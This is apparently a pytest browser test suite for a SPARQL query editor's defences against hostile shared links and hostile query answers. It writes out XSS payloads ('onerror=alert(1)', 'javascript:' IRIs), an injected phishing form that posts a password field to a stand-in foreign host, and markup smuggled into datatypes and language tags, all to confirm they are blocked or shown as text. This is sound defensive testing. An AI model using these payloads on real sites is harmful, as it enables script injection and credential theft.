"""The query editor against hostile links and answers, in a real browser (issue 10).

A shared link could name another endpoint (``?endpoint=``): stock YASGUI posted the reader's
queries there, kept that endpoint in localStorage across reloads and showed the answer on our
origin, inserting a literal's datatype as HTML. Here a small listener on another loopback port
stands for that foreign endpoint and records every connection; the page also reports every
Content-Security-Policy violation (``securitypolicyviolation`` events, through reloads) and
every console error (:func:`watch`).
"""

from __future__ import annotations

import json
import socket
import threading
from collections.abc import Iterator
from urllib.parse import quote, urlparse

import pytest

from ..support import free_port
from .conftest import shot

pytestmark = [pytest.mark.browser, pytest.mark.slow]

REPORT_VIOLATIONS = """
document.addEventListener("securitypolicyviolation", (event) => {
  window.reportViolation(
    [event.violatedDirective, event.blockedURI, event.sourceFile, event.lineNumber].join(" ")
  );
});
"""

SELECT = "SELECT ?s ?p ?o WHERE { ?s ?p ?o } LIMIT 3"
ASK = "ASK { ?s ?p ?o }"
BROKEN = "SELECT * WHERE { ?s ?p ?o } LIMIT x"
EDITOR = ".yasqe .CodeMirror:visible"  # the current tab's query field


class Listener:
    """A TCP listener on a loopback port that only records who connected and what they sent."""

    def __init__(self) -> None:
        self.port = free_port()
        self.url = f"http://127.0.0.1:{self.port}/sparql"
        self.received: list[bytes] = []
        self._socket = socket.create_server(("127.0.0.1", self.port))
        self._socket.settimeout(0.2)
        self._running = True
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self) -> None:
        while self._running:
            try:
                connection, _ = self._socket.accept()
            except TimeoutError:
                continue
            with connection:
                connection.settimeout(1)
                try:
                    self.received.append(connection.recv(4096) or b"(connected)")
                except OSError:
                    self.received.append(b"(connected)")

    def close(self) -> None:
        self._running = False
        self._thread.join(timeout=5)
        self._socket.close()


@pytest.fixture
def foreign() -> Iterator[Listener]:
    listener = Listener()
    yield listener
    listener.close()


@pytest.fixture
def editor_tab(new_tab):
    """A watched English tab that also collects CSP violations on ``tab.violations``."""
    tab = new_tab(viewport={"width": 1280, "height": 900}, locale="en-GB")
    violations: list[str] = []
    tab.violations = violations
    tab.expose_function("reportViolation", lambda violation: violations.append(violation))
    tab.add_init_script(REPORT_VIOLATIONS)
    return tab


def violations(tab) -> list[str]:
    """The violations reported so far, once the page has drawn a frame (so that reports of what
    was just done have arrived)."""
    tab.evaluate("() => new Promise((done) => requestAnimationFrame(() => done()))")
    return tab.violations


def yasgui(tab, script: str):
    """Runs ``script`` with ``tab`` bound to the editor's current YASGUI tab."""
    return tab.evaluate(f"(() => {{ const tab = window.kommunenKgYasgui.getTab(); {script} }})()")


def run(tab, query: str, shows: str) -> None:
    """Types ``query`` into the current tab, presses the run button, waits for ``shows``."""
    yasgui(tab, f"tab.setQuery({json.dumps(query)});")
    tab.locator(".yasqe_queryButton:visible").click()
    tab.wait_for_selector(shows, timeout=20000)


def open_every_view(tab) -> None:
    """A SELECT answer as table (also compact) and as raw response; an ASK answer as yes/no."""
    run(tab, SELECT, ".yasr .dataTable:visible")
    tab.locator(".yasr .tableControls label.switch:visible").first.click()  # simple view
    tab.locator(".yasr .select_response:visible").click()
    tab.wait_for_selector(".yasr .CodeMirror:visible", timeout=10000)
    tab.locator(".yasr .select_table:visible").click()
    tab.wait_for_selector(".yasr .dataTable:visible", timeout=10000)
    run(tab, ASK, ".yasr .booleanResult:visible")


HOSTILE_LINKS = {
    "endpoint": "sparql?endpoint={foreign}",
    "endpoint-and-query": "sparql?query={query}&endpoint={foreign}&requestMethod=GET",
    "endpoint-in-fragment": "sparql#query={query}&endpoint={foreign}",
}


@pytest.mark.parametrize("link", HOSTILE_LINKS.values(), ids=HOSTILE_LINKS.keys())
def test_a_link_naming_another_endpoint_sends_nothing_there_even_after_a_reload(
    live_server, editor_tab, foreign, link
):
    tab = editor_tab
    requests_made: list[str] = []
    tab.on("request", lambda request: requests_made.append(request.url))
    tab.goto(live_server + link.format(foreign=quote(foreign.url, safe=""), query=quote(SELECT)))
    tab.wait_for_selector(EDITOR, timeout=20000)
    tab.wait_for_load_state("networkidle")  # a shared query runs as the page opens
    open_every_view(tab)
    tab.reload()
    tab.wait_for_selector(EDITOR, timeout=20000)
    tab.wait_for_load_state("networkidle")
    open_every_view(tab)
    shot(tab, "query-editor-hostile-link")

    assert foreign.received == [], "the editor connected to the endpoint the link named"
    assert all(url.startswith(live_server) for url in requests_made), requests_made
    assert yasgui(tab, "return tab.getEndpoint();") == live_server + "sparql"
    assert violations(tab) == []
    assert tab.problems == []


def test_a_tab_kept_with_another_endpoint_still_queries_this_one(live_server, editor_tab, foreign):
    # As if a link or a reader had set another endpoint before the editor was pinned to ours.
    tab = editor_tab
    tab.goto(live_server + "sparql")
    tab.wait_for_selector(EDITOR, timeout=20000)
    yasgui(tab, f"tab.setEndpoint({json.dumps(foreign.url)});")
    run(tab, SELECT, ".yasr .dataTable:visible")
    tab.reload()
    tab.wait_for_selector(EDITOR, timeout=20000)
    assert yasgui(tab, "return tab.getEndpoint();") == live_server + "sparql"
    run(tab, ASK, ".yasr .booleanResult:visible")
    assert foreign.received == []
    assert violations(tab) == []
    assert tab.problems == []


def test_the_field_to_type_another_endpoint_is_not_shown(live_server, editor_tab):
    tab = editor_tab
    tab.goto(live_server + "sparql")
    tab.wait_for_selector(EDITOR, timeout=20000)
    assert tab.locator(".yasgui .controlbar input.autocomplete:visible").count() == 0
    assert tab.locator("#endpoint-url").inner_text() == live_server + "sparql"
    assert tab.problems == []


def test_a_query_error_shows_without_a_policy_violation(live_server, editor_tab):
    tab = editor_tab
    tab.goto(live_server + "sparql")
    tab.wait_for_selector(EDITOR, timeout=20000)
    run(tab, BROKEN, ".yasr .errorResult:visible")
    # The syntax-error marker's tooltip underlines the expected tokens with a style attribute.
    tab.locator(".yasqe .parseErrorIcon:visible").hover()
    tab.wait_for_selector(".yasqe_tooltip strong", timeout=5000)
    assert violations(tab) == []
    assert tab.problems == [
        f"400: {live_server}sparql",
        "console error: Failed to load resource: "
        "the server responded with a status of 400 (BAD REQUEST)",
    ]


def test_columns_can_be_resized_and_query_text_dragged_without_a_policy_violation(
    live_server, editor_tab
):
    tab = editor_tab
    tab.goto(live_server + "sparql")
    tab.wait_for_selector(EDITOR, timeout=20000)
    run(tab, SELECT, ".yasr .dataTable:visible")
    grip = tab.locator(".yasr .grip-resizable:visible").nth(1).bounding_box()
    assert grip is not None
    tab.mouse.move(grip["x"] + 2, grip["y"] + 5)
    tab.mouse.down()
    tab.mouse.move(grip["x"] + 80, grip["y"] + 5, steps=5)
    tab.mouse.up()
    # CodeMirror sets a data: image as the drag image of selected query text.
    yasgui(tab, "tab.getYasqe().setSelection({line: 0, ch: 0}, {line: 0, ch: 6});")
    tab.locator(".yasqe .CodeMirror:visible .CodeMirror-line").first.dispatch_event(
        "dragstart", {"dataTransfer": tab.evaluate_handle("new DataTransfer()")}
    )
    assert violations(tab) == []
    assert tab.problems == []


def test_markup_smuggled_into_the_page_can_load_run_and_post_nothing(
    live_server, editor_tab, foreign
):
    """The policy is the second line of defence, for whatever gets past rendering as text."""
    tab = editor_tab
    tab.goto(live_server + "sparql")
    tab.wait_for_selector(EDITOR, timeout=20000)
    smuggled = (
        f'<img src="http://127.0.0.1:{foreign.port}/pixel.gif" onerror="document.title = 1">'
        f'<form id="phish" method="post" action="{foreign.url}">'
        '<input type="password" name="secret" value="x"></form>'
    )
    tab.evaluate("(html) => document.body.insertAdjacentHTML('beforeend', html)", smuggled)
    tab.evaluate("document.getElementById('phish').submit()")
    blocked = ("img-src", "script-src-attr", "form-action")
    for _ in range(50):  # the refused form submission is reported a moment later
        reported = " ".join(violations(tab))
        if all(directive in reported for directive in blocked):
            break
        tab.wait_for_timeout(100)
    assert all(directive in reported for directive in blocked), reported
    assert foreign.received == []
    assert tab.title() != "1"


# --- answers are text -----------------------------------------------------------------------

# What our endpoint does answer: a string of markup and an IRI that is no web address.
MARKUP_QUERY = """SELECT ?markup ?script WHERE {
  BIND("<img src=x onerror=alert(1)>" AS ?markup)
  BIND(IRI("javascript:alert(1)") AS ?script) }"""

# What it refuses to produce (invalid IRIs and language tags), as another endpoint could answer.
EVIL = '"><img src=x onerror=alert(1)><form action=http://example.org/><input type=password>'
HOSTILE_ANSWER = {
    "head": {"vars": ["x", "y", "z", "w"]},
    "results": {
        "bindings": [
            {
                "x": {"type": "literal", "value": "a", "datatype": "http://x/" + EVIL},
                "y": {"type": "literal", "value": "b", "xml:lang": "en" + EVIL},
                "z": {"type": "uri", "value": "http://example.org/ok"},
                "w": {"type": "bnode", "value": EVIL},
            }
        ]
    },
}


def elements_in_results(tab) -> int:
    return tab.locator(".yasr img, .yasr form, .yasr input[type=password]").count()


def test_a_literal_of_markup_and_a_script_iri_show_as_text_not_as_elements(live_server, editor_tab):
    tab = editor_tab
    tab.goto(live_server + "sparql?query=" + quote(MARKUP_QUERY))
    tab.wait_for_selector(".yasr .dataTable:visible", timeout=20000)
    table = tab.locator(".yasr .dataTable:visible")
    assert "<img src=x onerror=alert(1)>" in table.inner_text()
    assert "javascript:alert(1)" in table.inner_text()
    assert elements_in_results(tab) == 0
    assert table.locator("a[href^='javascript']").count() == 0
    assert violations(tab) == []
    assert tab.problems == []


def test_datatypes_language_tags_and_blank_nodes_of_markup_show_as_text(live_server, editor_tab):
    tab = editor_tab

    def hostile_answer(route):
        if route.request.method == "POST":
            route.fulfill(
                status=200,
                content_type="application/sparql-results+json",
                body=json.dumps(HOSTILE_ANSWER),
            )
        else:
            route.continue_()

    tab.route(lambda url: urlparse(url).path == "/sparql", hostile_answer)
    tab.goto(live_server + "sparql")
    tab.wait_for_selector(EDITOR, timeout=20000)
    run(tab, "SELECT * WHERE { ?x ?y ?z }", ".yasr .dataTable:visible")
    table = tab.locator(".yasr .dataTable:visible")
    text = table.inner_text()
    assert "http://x/" + EVIL in text  # the datatype
    assert "@en" + EVIL in text  # the language tag
    assert text.count(EVIL) == 3  # and the blank node
    assert elements_in_results(tab) == 0
    # Links only for http(s) IRIs: the answer's IRI and the (percent-encoded) datatype.
    hrefs = table.locator("a").evaluate_all("links => links.map(a => a.href)")
    assert hrefs and all(urlparse(href).scheme in ("http", "https") for href in hrefs)
    assert "http://example.org/ok" in hrefs
    assert violations(tab) == []
    assert tab.problems == []
